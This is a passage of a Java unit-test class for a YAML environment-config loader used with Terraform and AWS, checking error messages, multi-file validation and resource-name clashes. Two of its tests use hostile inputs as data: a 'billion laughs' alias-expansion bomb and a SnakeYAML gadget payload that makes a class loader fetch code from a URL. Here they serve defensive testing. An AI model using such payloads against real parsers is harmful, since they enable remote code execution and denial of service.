        InvalidConfigException e = assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.load(file));

        for (ConfigError each : e.errors()) {
            assertEquals(file, each.file(), each::toString);
            assertTrue(each.toString().startsWith(file + ":"), each::toString);
            assertTrue(each.message().contains("expected") && each.message().contains("found"),
                    () -> "every message says what was expected and what was found: " + each);
        }
        ConfigError error = e.errors().stream().filter(x -> x.keyPath().equals(keyPath)).findFirst()
                .orElseThrow(() -> new AssertionError("no error at key path '" + keyPath + "' in:\n" + e.getMessage()));
        String text = error.toString();
        if (!keyPath.isEmpty()) {
            assertTrue(text.contains(": " + keyPath + ": "), text);
        }
        for (String fragment : fragments) {
            assertTrue(text.contains(fragment), () -> "expected [" + fragment + "] in:\n" + text);
        }
        if (line != null) {
            int expected = line instanceof Integer n ? n : lineOf(yaml, (String) line);
            assertEquals(expected, error.line(), () -> "line of " + text);
        }
        assertTrue(e.getMessage().contains(text), "the exception message lists the error");
    }

    @Test
    void theCorpusIsBigEnough() {
        assertTrue(badFiles().count() >= 80, "the README promises 80+ broken files");
    }

    // ---------------------------------------------------------------- several errors, no cascades

    @Test
    void allErrorsOfOneFileAreReportedTogether() {
        String yaml = replace(with(with(with(seed(), "region", "\"moon-1\""), "min_size", "-1"), "bucket", "\"AB\""),
                "\"v2.0.5-eksbuild.1\"", "\"newest\"");
        Path file = writeEnv("test", yaml);

        InvalidConfigException e = assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.load(file));

        Set<String> paths = e.errors().stream().map(ConfigError::keyPath).collect(Collectors.toSet());
        assertTrue(paths.containsAll(Set.of("region", "min_size", "bucket", "addons[1].addon_version")), paths::toString);
        assertTrue(e.errors().size() >= 4);
        assertEquals(e.errors().size(), e.getMessage().lines().count(), "one line per error");
    }

    @Test
    void aWrongListElementIsReportedOnceWithoutMisleadingFollowUps() {
        InvalidConfigException types = assertThrows(InvalidConfigException.class,
                () -> EnvConfigLoader.load(writeEnv("test", with("instance_types", "[5]"))));
        assertEquals(List.of("instance_types[0]"), types.errors().stream().map(ConfigError::keyPath).toList(),
                types::getMessage);

        InvalidConfigException zones = assertThrows(InvalidConfigException.class,
                () -> EnvConfigLoader.load(writeEnv("test", with("availability_zones", "[\"eu-west-2a\", 7]"))));
        assertEquals(List.of("availability_zones[1]"), zones.errors().stream().map(ConfigError::keyPath).toList(),
                zones::getMessage);
    }

    @Test
    void aBillionLaughsFailsFast() {
        Path file = writeEnv("test", plus(BILLION_LAUGHS));
        InvalidConfigException e = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.load(file)));
        assertEquals(1, e.errors().size(), e::getMessage);
    }

    @Test
    void hostileTagsAreNeverConstructed() throws IOException {
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(300);
            String url = "http://127.0.0.1:" + listener.getLocalPort() + "/";
            String payload = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + url + "\"]]]]";
            Path file = writeEnv("test", with("profile", payload));

            assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.load(file));
            try {
                listener.accept().close();
                fail("the loader opened a connection to " + url);
            } catch (SocketTimeoutException expected) {
                // nothing connected: the tags were not instantiated
            }
        }
    }

    // ---------------------------------------------------------------- loadAll

    @Test
    void aBadEnvAmongGoodOnesFailsLoadAllNamingOnlyTheBadFile() {
        writeEnv("alpha", renamed("alpha"));
        Path bad = writeEnv("beta", with(renamed("beta"), "cidr_block", "\"10.155.48.1/20\""));
        writeEnv("gamma", renamed("gamma"));

        InvalidConfigException e = loadAllFails();

        assertEquals(Set.of(bad), e.errors().stream().map(ConfigError::file).collect(Collectors.toSet()));
        assertEquals(List.of("cidr_block"), e.errors().stream().map(ConfigError::keyPath).toList());
        assertFalse(e.getMessage().contains("alpha"), e::getMessage);
        assertFalse(e.getMessage().contains("gamma"), e::getMessage);
    }

    @Test
    void loadAllReturnsEveryGoodEnvSortedByName() {
        writeEnv("gamma", renamed("gamma"));
        writeEnv("alpha", renamed("alpha"));
        assertEquals(List.of("alpha", "gamma"),
                EnvConfigLoader.loadAll(root, Set.of()).stream().map(EnvConfig::name).toList());
    }

    @Test
    void selectingEnvsReturnsOnlyThem() {
        writeEnv("alpha", renamed("alpha"));
        writeEnv("beta", renamed("beta"));
        assertEquals(List.of("alpha"),
                EnvConfigLoader.loadAll(root, Set.of("alpha")).stream().map(EnvConfig::name).toList());
    }

    @Test
    void selectingEnvsStillValidatesTheOthers() {
        // nothing is written while any env file is invalid, selected or not
        writeEnv("alpha", renamed("alpha"));
        Path bad = writeEnv("beta", with(renamed("beta"), "region", "\"nowhere\""));
        InvalidConfigException e = assertThrows(InvalidConfigException.class,
                () -> EnvConfigLoader.loadAll(root, Set.of("alpha")));
        assertEquals(List.of(bad), e.errors().stream().map(ConfigError::file).distinct().toList());
        assertTrue(e.getMessage().contains(": region: expected an AWS region code"), e::getMessage);
    }

    @Test
    void aFolderWithoutEnvYamlIsAnErrorNamingWhatItHolds() throws IOException {
        writeEnv("alpha", renamed("alpha"));
        Path misnamed = Files.createDirectories(root.resolve("prod")).resolve("env.yml");
        Files.writeString(misnamed, renamed("prod"));
        Files.createDirectories(root.resolve(".git")); // hidden folders are not environments

        InvalidConfigException e = loadAllFails();

        assertEquals(1, e.errors().size(), e::getMessage);
        ConfigError error = e.errors().get(0);
        assertEquals(root.resolve("prod").resolve("env.yaml"), error.file());
        assertTrue(error.message().startsWith("expected this file (every folder under " + root + " is an environment)"),
                error::toString);
        assertTrue(error.message().contains("found no env.yaml (the folder holds: env.yml)"), error::toString);
    }

    @Test
    void twoRealEnvsCannotCreateTheSameStateBucket() {
        Path first = writeEnv("alpha", renamed("alpha"));
        String yaml = with(renamed("beta"), "bucket", "\"tfstate-mlops-alpha\"");
        Path second = writeEnv("beta", yaml);
        InvalidConfigException e = loadAllFails();
        assertEquals(1, e.errors().size(), e::getMessage);
        // reported once, in the file that sorts later (neither is deployed or committed here),
        // with both files' lines
        assertEquals(second + ":" + lineOf(yaml, "bucket:") + ": bucket: expected a state bucket of this environment"
                + " alone (its state stack creates it; bucket names are global), found \"tfstate-mlops-alpha\", also the"
                + " bucket of " + first + ":" + lineOf(renamed("alpha"), "bucket:") + " (fix it in this file: neither file"
                + " is deployed or was committed first, and this one sorts later)", e.errors().get(0).toString());
    }

    @Test
    void aClashAsksForTheFixInTheEnvThatIsNotDeployed() throws IOException {
        // env "zeta" (sorts later) is deployed from this checkout: its state stack's local state exists
        Path envRoot = Files.createDirectories(root.resolve("project").resolve("env"));
        Path deployed = write(envRoot, "zeta", renamed("zeta"));
        Path copy = write(envRoot, "alpha", with(renamed("alpha"), "bucket", "\"tfstate-mlops-zeta\""));
        Files.createDirectories(root.resolve("project").resolve(".state").resolve("zeta"));
        Files.writeString(root.resolve("project").resolve(".state").resolve("zeta").resolve("terraform.tfstate"), "{}");
        InvalidConfigException e = assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.loadAll(envRoot, Set.of()));
        assertEquals(1, e.errors().size(), e::getMessage);
        ConfigError error = e.errors().get(0);
        assertEquals(copy, error.file());
        assertEquals(lineOf(renamed("alpha"), "bucket:"), error.line());
        assertTrue(error.message().endsWith("also the bucket of " + deployed + ":" + lineOf(renamed("zeta"), "bucket:")
                + " (fix it in this file: " + deployed + " is deployed (" + Path.of(".state", "zeta", "terraform.tfstate")
                + " exists))"), error::toString);
    }

    @Test
    void aClashAsksForTheFixInTheEnvCommittedLast() throws Exception {
        // env "zeta" (sorts later) is committed, the copy "alpha" is not: the fix goes to the copy
        Path project = Files.createDirectories(root.resolve("repo"));
        Path envRoot = Files.createDirectories(project.resolve("env"));
        Path committed = write(envRoot, "zeta", renamed("zeta"));
        git(project, "init", "-q");
        git(project, "add", "env/zeta/env.yaml");
        git(project, "-c", "user.name=test", "-c", "user.email=test@example.com", "commit", "-q", "-m", "zeta");
        // a copy whose header still names the env it came from
        String copied = "# Environment \"zeta\": the seed's keys\n" + renamed("alpha").replace("\"tfstate-mlops-alpha\"",
                "\"tfstate-mlops-zeta\"");
        Path copy = write(envRoot, "alpha", copied);
        InvalidConfigException e = assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.loadAll(envRoot, Set.of()));
        assertEquals(List.of(copy + ":" + lineOf(copied, "bucket:") + ": bucket: expected a state bucket of this"
                        + " environment alone (its state stack creates it; bucket names are global), found"
                        + " \"tfstate-mlops-zeta\", also the bucket of " + committed + ":" + lineOf(renamed("zeta"), "bucket:")
                        + " (fix it in this file: " + committed + " was committed first); its comments still name"
                        + " \"zeta\" (line 1): a copy of " + committed + "? update them too"),
                e.errors().stream().map(ConfigError::toString).toList());
    }

    static void git(Path dir, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git", "-C", dir.toString()));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), UTF_8);
        assertEquals(0, p.waitFor(), () -> command + ": " + out);
    }

    static Path write(Path envRoot, String env, String yaml) throws IOException {
        Path file = Files.createDirectories(envRoot.resolve(env)).resolve(EnvConfigLoader.FILE_NAME);
        Files.writeString(file, yaml);
        return file;
    }

    @Test
    void aLockTableSharedByRealEnvsIsCreatedByOneOfThem() {
        writeEnv("alpha", renamed("alpha"));
        String shared = with(renamed("beta"), "dynamodb_table", "\"terraform-state-locks-alpha\"");
        Path second = writeEnv("beta", shared);
        InvalidConfigException e = loadAllFails();
        assertEquals(1, e.errors().size(), e::getMessage);
        ConfigError error = e.errors().get(0);
        assertEquals(second, error.file());
        assertEquals("create_lock_table", error.keyPath());
        assertEquals(lineOf(shared, "dynamodb_table:"), error.line(), "no create_lock_table key: the table's line");
        assertTrue(error.message().startsWith("expected false when another environment's state stack creates the same"
                + " lock table (" + root.resolve("alpha").resolve("env.yaml") + ":" + lineOf(renamed("alpha"), "dynamodb_table:")
                + " creates dynamodb_table terraform-state-locks-alpha in eu-west-2 (profile digicat-mlops)), found true"
                + " (set or by default); set create_lock_table: false here"), error::toString);

        // the fix the message names: the second env reads the table instead of creating it
        writeEnv("beta", shared + "create_lock_table: false\n");
        List<EnvConfig> envs = EnvConfigLoader.loadAll(root, Set.of());
        assertEquals(List.of(true, false), envs.stream().map(c -> c.backend().createLockTable()).toList());
        // another region or profile (another account) may create a table of the same name
        writeEnv("beta", with(shared, "profile", "\"other-account\""));
        assertEquals(2, EnvConfigLoader.loadAll(root, Set.of()).size());
    }

    @Test
    void twoRealEnvsInOneAccountCannotCreateTheSameIrsaRole() {
        writeEnv("alpha", renamed("alpha"));
        String sameRoles = renamed("beta").replace("_DriverRole-beta", "_DriverRole-alpha");
        Path second = writeEnv("beta", sameRoles);
        InvalidConfigException e = loadAllFails();
        assertEquals(List.of("addons[0].service_account_role_arn", "addons[1].service_account_role_arn"),
                e.errors().stream().map(ConfigError::keyPath).toList(), e::getMessage);
        int line = lineOf(sameRoles, "role/AmazonEKS_EBS_CSI");
        assertEquals(second + ":" + line + ": addons[0].service_account_role_arn: expected an IAM role name no other"
                + " environment in this account creates (" + root.resolve("alpha").resolve("env.yaml") + ":" + line
                + " creates role AmazonEKS_EBS_CSI_DriverRole-alpha with profile digicat-mlops), found"
                + " \"arn:aws:iam::<aws_account_id>:role/AmazonEKS_EBS_CSI_DriverRole-alpha\"; give each env its own"
                + " name (e.g. AmazonEKS_EBS_CSI_DriverRole-alpha-beta) or drop the line for a role named after the cluster"
                + " (fix it in this file: neither file is deployed or was committed first, and this one sorts later)",
                e.errors().get(0).toString());
        // another account (profile), or add-ons off (no roles created): no clash
        writeEnv("beta", with(sameRoles, "profile", "\"other-account\""));
        assertEquals(2, EnvConfigLoader.loadAll(root, Set.of()).size());
        writeEnv("beta", with(sameRoles, "enable_addons", "false"));
        assertEquals(2, EnvConfigLoader.loadAll(root, Set.of()).size());
    }

    @Test
    void roleNamesClashIgnoringCaseAlsoWithinOneFile() throws IOException {
        Path file = writeEnv("alpha", renamed("alpha").replace("AmazonEKS_EFS_CSI_DriverRole-alpha",
                "amazoneks_ebs_csi_driverrole-ALPHA"));
        InvalidConfigException e = loadAllFails();
        assertEquals(List.of(file + ":" + lineOf(Files.readString(file), "role/amazoneks") + ": addons[1].service_account_role_arn:"
                        + " expected each placeholder role name once (this stack creates the role; IAM role names are"
                        + " unique per account, ignoring case), found role amazoneks_ebs_csi_driverrole-ALPHA also at"
                        + " addons[0] (line " + lineOf(Files.readString(file), "role/AmazonEKS_EBS") + ")"),
                e.errors().stream().map(ConfigError::toString).toList());
    }

    @Test
    void emulatedEnvsOnOneEmulatorShareItsNamespace() {
        String emulator = "emulator_endpoint: \"http://127.0.0.1:5000\"\n";
        writeEnv("alpha", renamed("alpha") + emulator);
        Path second = writeEnv("beta", with(renamed("beta"), "bucket", "\"tfstate-mlops-alpha\"") + emulator);
        InvalidConfigException e = loadAllFails();
        assertEquals(List.of(second + ": bucket"),
                e.errors().stream().map(x -> x.file() + ": " + x.keyPath()).toList(), e::getMessage);
        // on another emulator (port) the same names are fine
        writeEnv("beta", with(renamed("beta"), "bucket", "\"tfstate-mlops-alpha\"")
                + "emulator_endpoint: \"http://127.0.0.1:5001\"\n");
        assertEquals(2, EnvConfigLoader.loadAll(root, Set.of()).size());
    }

    @Test
    void anEmulatedEnvCanOnlyShareALockTableAnEnvOnTheSameEmulatorCreates() throws IOException {
        String emulator = "emulator_endpoint: \"http://127.0.0.1:5000\"\n";
        Path file = writeEnv("alpha", renamed("alpha") + emulator + "create_lock_table: false\n");
        InvalidConfigException e = loadAllFails();
        assertEquals(List.of(file + ":" + lineOf(Files.readString(file), "create_lock_table:")
                        + ": create_lock_table: expected true in an emulated environment unless another env"
                        + " on the same emulator creates dynamodb_table terraform-state-locks-alpha in eu-west-2"
                        + " (emulator http://127.0.0.1:5000) (an emulator starts empty), found false"),
                e.errors().stream().map(ConfigError::toString).toList());
        // a real env may read a table made outside this project (e.g. by the seed's Terragrunt)
        writeEnv("alpha", renamed("alpha") + "create_lock_table: false\n");
        assertEquals(1, EnvConfigLoader.loadAll(root, Set.of()).size());
    }

    @Test
    void anEmulatedEnvMayReuseARealEnvsBucketAndTable() {
        writeEnv("alpha", renamed("alpha"));
        writeEnv("beta", with(with(renamed("beta"), "bucket", "\"tfstate-mlops-alpha\""),
                "dynamodb_table", "\"terraform-state-locks-alpha\"") + "emulator_endpoint: \"http://127.0.0.1:5000\"\n");
        assertEquals(2, EnvConfigLoader.loadAll(root, Set.of()).size());
    }

    @Test
    void selectingAMissingEnvIsAnError() {
        writeEnv("alpha", renamed("alpha"));
        writeEnv("gamma", renamed("gamma"));

        InvalidConfigException e = assertThrows(InvalidConfigException.class,
                () -> EnvConfigLoader.loadAll(root, Set.of("x")));

        assertEquals(1, e.errors().size(), e::getMessage);
        ConfigError error = e.errors().get(0);
        assertEquals(root.resolve("x").resolve("env.yaml"), error.file());
        assertTrue(error.message().contains("environment 'x' was asked for"), error::toString);
        assertTrue(error.message().contains("[alpha, gamma]"), error::toString);
    }

    @Test
    void anEnvRootWithoutEnvsIsAnError() throws IOException {
        Files.createDirectories(root.resolve(".cache"));
        InvalidConfigException e = loadAllFails();
        assertTrue(e.getMessage().contains("expected at least one <env>/env.yaml, found none"), e::getMessage);
    }

    @Test
    void aMissingEnvRootIsAnError() {
        Path missing = root.resolve("no-such-dir");
        InvalidConfigException e = assertThrows(InvalidConfigException.class,
                () -> EnvConfigLoader.loadAll(missing, Set.of()));
        assertEquals(missing, e.errors().get(0).file());
        assertTrue(e.getMessage().contains("expected a directory of environments"), e::getMessage);
    }

    // ---------------------------------------------------------------- helpers

    /** loadAll of every env under the root, which must fail. */
    InvalidConfigException loadAllFails() {
        return assertThrows(InvalidConfigException.class, () -> EnvConfigLoader.loadAll(root, Set.of()));
    }

    /** 9 aliases of 9 lists of 9 ...: 9^6 "lol"s if expanded. */
    static final String BILLION_LAUGHS = """
            lol0: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
            lol1: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
            lol2: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
            lol3: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
            lol4: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
            lol5: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
            """;

    static String seed() {
        try {
            return Files.readString(SEED);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The seed with the line {@code key: ...} replaced by {@code key: value} (empty: no value). */
    static String with(String key, String value) {
        return with(seed(), key, value);
    }

    static String with(String yaml, String key, String value) {
        assertEquals(1, topLevelLine(key).matcher(yaml).results().count(), "one line '" + key + ": ...'");
        return topLevelLine(key).matcher(yaml)
                .replaceFirst(Matcher.quoteReplacement(value.isEmpty() ? key + ":" : key + ": " + value));
    }

    static String without(String key) {
        return without(seed(), key);
    }

    static String without(String yaml, String key) {
        assertEquals(1, topLevelLine(key).matcher(yaml).results().count(), "one line '" + key + ": ...'");
        return topLevelLine(key).matcher(yaml).replaceFirst("");
    }

    /** The seed without its explicit opening of the endpoint to the world, with more lines at the end. */
    static String restricted(String lines) {
        return without("public_access_open_to_world") + (lines.endsWith("\n") ? lines : lines + "\n");
    }

    /** The seed with more lines at the end. */
    static String plus(String lines) {
        return seed() + (lines.endsWith("\n") ? lines : lines + "\n");
    }

    /** The seed with one exact piece of text replaced. */
    static String replace(String old, String replacement) {
        return replace(seed(), old, replacement);
    }

    static String replace(String yaml, String old, String replacement) {
        assertTrue(yaml.contains(old), "the text contains " + old);
        return yaml.replace(old, replacement);
    }

    /**
     * The seed as environment {@code name} (the environment key must equal the folder name), with
     * its own state bucket, lock table and IRSA role names (two real-AWS envs in one account
     * cannot create the same ones).
     */
    static String renamed(String name) {
        return with(with(with("environment", "\"" + name + "\""), "bucket", "\"tfstate-mlops-" + name + "\""),
                "dynamodb_table", "\"terraform-state-locks-" + name + "\"").replace("_DriverRole", "_DriverRole-" + name);
    }

    private static Pattern topLevelLine(String key) {
        return Pattern.compile("^" + Pattern.quote(key) + ":[^\n]*$", Pattern.MULTILINE);
    }

    /** 1-based line of the first occurrence of {@code marker}. */
    static int lineOf(String yaml, String marker) {
        int at = yaml.indexOf(marker);
        assertTrue(at >= 0, "marker " + marker + " is in the text");
        return (int) yaml.substring(0, at).chars().filter(c -> c == '\n').count() + 1;
    }

    /** Writes {@code <root>/<env>/env.yaml}; a text with U+00FF is written as Latin-1 (not UTF-8). */
    Path writeEnv(String env, String yaml) {
        try {
            Path file = Files.createDirectories(root.resolve(env)).resolve(EnvConfigLoader.FILE_NAME);
            Files.write(file, yaml.getBytes(yaml.indexOf('\u00ff') >= 0 ? ISO_8859_1 : UTF_8));
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
